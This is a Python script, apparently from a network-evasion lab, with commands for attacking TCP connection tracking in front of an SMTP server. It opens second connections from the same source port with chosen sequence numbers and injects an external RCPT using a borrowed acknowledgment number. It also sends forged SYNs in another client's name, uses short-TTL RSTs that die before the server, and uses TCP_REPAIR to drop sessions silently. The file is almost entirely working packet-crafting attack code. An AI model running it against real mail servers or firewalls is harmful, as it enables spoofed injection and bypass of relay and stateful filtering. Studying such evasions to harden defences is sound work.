#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""ways.py COMMAND...: one source port, and two public addresses (two ways) of one server.

  can                          can this kernel's queue say what connection tracking knows? status 0: yes
  attack MAC N TRIES WAY1 WAY2 opens a connection to WAY1, says MAIL, opens another one from the same port to WAY2, whose numbers
                               lie a little behind the first one's next, and sends an external RCPT on the first, with the
                               second one's acknowledgment number: a Linux server takes it for an old one where it isn't
                               ahead, which it is in half of the tries. Prints "open=N": how many second ones there were. N:
                               number of the first try; each has an address of its own
  attack-later ...             the same with servers that have all acknowledged, and are silent; before the second ones it prints
                               "ready", and waits for a line on stdin
  attack-rst ...               the same; before the second one, a RST dies on its way to the server
  spoof MAC WAY1 WAY2          an honest session on WAY1, and in the middle of it SYNs in its client's name to WAY2, for
                               longer than a session that doesn't say its way yet is one. Prints the codes it got
  both WAY1 WAY2               a session on each, from one port, at the same time: the second's handshake waits until
                               the first has said QUIT. Prints the codes of both
  again WAY1 [WAY2]            crashes in the middle of a session (its system forgets it), and comes again from the same port (to
                               WAY2). Prints the codes
"""
import os
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "evasion"))
from wire import RST, SYN, Conn, Wire, ipv4, ipv6, tcp_segment  # noqa: E402

SLOW = int(os.environ.get("LAB_SLOW", 1))
PAUSE = min(SLOW, 2)  # of what is only a matter of order
TCP_REPAIR = 19
LETTER = b"DATA\r\n", b"Subject: x\r\n\r\ntext\r\n.\r\n", b"QUIT\r\n"


def is_v6(address):
    return ":" in address


# ---- the queue ----

def can():
    """Takes queue 65000 for a moment, and asks for NFQA_CFG_F_CONNTRACK."""
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)  # NETLINK_NETFILTER

    def attribute(kind, data):
        return struct.pack("=HH", 4 + len(data), kind) + data + b"\0" * (-len(data) % 4)

    def configure(*attributes):
        body = struct.pack("!BBH", 0, 0, 65000) + b"".join(attributes)
        s.send(struct.pack("=IHHII", 16 + len(body), 3 << 8 | 2, 5, 1, 0) + body)
        return struct.unpack_from("=i", s.recv(4096), 16)[0]

    if configure(attribute(1, struct.pack("!BBH", 1, 0, 0))):  # NFQA_CFG_CMD: bind
        sys.exit("no queue")
    refused = configure(attribute(5, struct.pack("!I", 2)), attribute(4, struct.pack("!I", 2)))  # NFQA_CFG_FLAGS, _MASK
    return 1 if refused else 0


# ---- with a TCP of our own ----

class TwoWays(Wire):
    """Tells the connections of one port apart by where they go."""

    def _dispatch(self, p):
        v4 = p[0] >> 4 == 4
        if p[9 if v4 else 6] != 6:
            return
        at = (p[0] & 15) * 4 if v4 else 40
        src, dst = (p[12:16], p[16:20]) if v4 else (p[8:24], p[24:40])
        end = struct.unpack_from("!H", p, 2)[0] or len(p) if v4 else struct.unpack_from("!H", p, 4)[0] + 40
        _, port, seq, ack, words, flags, window = struct.unpack_from("!HHIIBBH", p, at)
        data = at + (words >> 4) * 4
        conn = self.conns.get((dst, port, src))
        if conn:
            conn.heard(seq, ack, flags, window, p[data:end], p[at + 20:data])

    def add(self, conn):
        self.conns[conn.src, conn.sport, conn.dst] = conn


def say(conn, line, acknowledged=False):
    """The reply is acknowledged with an old sequence number, which doesn't count: a Linux server that waits for an
    acknowledgment isn't particular about the next one."""
    before = len(conn.got)
    conn.send(line)
    conn.wait(lambda: len(conn.got) > before, 4 * SLOW)
    conn.skip(len(line))
    if acknowledged:
        conn.send()


def one_try(wire, number, way1, way2, before_second, opened, acknowledged=False):
    src = f"2001:db8:a::{number:x}" if is_v6(way1) else f"198.18.7.{number}"
    first = Conn(wire, src, way1, 21000 + number)
    if not first.connect() or not first.wait(lambda: b"220" in first.got, 4 * SLOW):
        print(f"# {src}: no first session", file=sys.stderr)
    say(first, b"EHLO x\r\n")
    say(first, b"MAIL FROM:<a@local.example>\r\n", acknowledged)
    before_second(first)
    second = Conn(wire, src, way2, 21000 + number, isn=first.nxt + 5000 & 0xFFFFFFFF)
    if second.connect():
        opened.append(number)
        second.wait(lambda: b"220" in second.got, PAUSE)
    line = b"RCPT TO:<c%05d@extrn.example>\r\n" % number
    first.send(line, ack=second.rcv)
    time.sleep(0.3 * PAUSE)
    first.send(line, at=1 << 20)  # and one that is far from both
    first.send(line)


def attack(mac, number, tries, way1, way2, before_second=lambda first: None, acknowledged=False):
    wire, opened, numbers = TwoWays("eth0", mac), [], range(int(number), int(number) + int(tries))
    threads = [threading.Thread(target=one_try, args=(wire, n, way1, way2, before_second, opened, acknowledged)) for n in numbers]
    for t in threads:
        t.start()
    yield  # all are under way
    for t in threads:
        t.join()
    print(f"open={len(opened)}")


def attack_at_once(*arguments):
    list(attack(*arguments))


def attack_rst(*arguments):
    list(attack(*arguments, before_second=lambda first: first.send(flags=RST, ttl=3)))


def attack_later(mac, number, tries, way1, way2):
    all_there = threading.Barrier(int(tries) + 1)

    def wait(first):
        all_there.wait()  # until the last one is
        all_there.wait()  # until the line is

    running = attack(mac, number, tries, way1, way2, wait, acknowledged=True)
    next(running)
    all_there.wait()
    print("ready", flush=True)
    sys.stdin.readline()
    all_there.wait()
    list(running)


# ---- with the system's ----

def reply(s):
    got = b""
    while not got.endswith(b"\n") or got.split(b"\n")[-2][3:4] == b"-":
        piece = s.recv(4096)
        if not piece:
            return "eof"
        got += piece
    return got.split(b"\n")[-2][:3].decode("latin-1")


def begin(way, port=0):
    s = socket.socket(socket.AF_INET6 if is_v6(way) else socket.AF_INET)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.settimeout(30 * SLOW)
    s.bind(("", port))
    s.connect((way, 25))
    return s


def talk(s, *lines):
    codes = []
    for line in lines:
        s.sendall(line)
        codes.append(reply(s))
    return codes


def deliver(s):
    return [reply(s)] + talk(s, b"EHLO x\r\n", b"MAIL FROM:<a@b.example>\r\n", b"RCPT TO:<u@local.example>\r\n", *LETTER)


def spoof(mac, way1, way2):
    s = begin(way1)
    codes = [reply(s)] + talk(s, b"EHLO x\r\n")
    wire = TwoWays("eth0", mac)
    family = socket.AF_INET6 if is_v6(way1) else socket.AF_INET
    own, port = s.getsockname()[:2]
    src, dst = socket.inet_pton(family, own), socket.inet_pton(family, way2)
    for n in range(12):
        wire.send((ipv6 if is_v6(way1) else ipv4)(src, dst, tcp_segment(src, dst, port, 25, 4000000000 + n // 6, 0, SYN, options=b"\2\4\5\xb4")))
        time.sleep(0.25 * PAUSE)
        if n == 1:
            codes += talk(s, b"MAIL FROM:<a@b.example>\r\n")
    codes += talk(s, b"RCPT TO:<u@local.example>\r\n", *LETTER)
    print(",".join(codes))


def both(way1, way2):
    first, results = begin(way1), {}
    port = first.getsockname()[1]

    def run_second():
        try:
            results["second"] = deliver(begin(way2, port))
        except OSError as e:
            results["second"] = [type(e).__name__]

    second = threading.Thread(target=run_second)
    second.start()
    time.sleep(1.5 * PAUSE)
    codes = deliver(first)
    first.close()
    second.join()
    print(",".join(codes), ",".join(results["second"]))


def again(way1, way2=None):
    s = begin(way1)
    port = s.getsockname()[1]
    reply(s)
    talk(s, b"EHLO x\r\n", b"MAIL FROM:<a@b.example>\r\n")
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    s.close()  # without a word
    try:
        print(",".join(deliver(begin(way2 or way1, port))))
    except OSError as e:
        print(type(e).__name__)


COMMANDS = {"can": can, "attack": attack_at_once, "attack-rst": attack_rst, "attack-later": attack_later, "spoof": spoof, "both": both,
            "again": again}
sys.exit(COMMANDS[sys.argv[1]](*sys.argv[2:]))
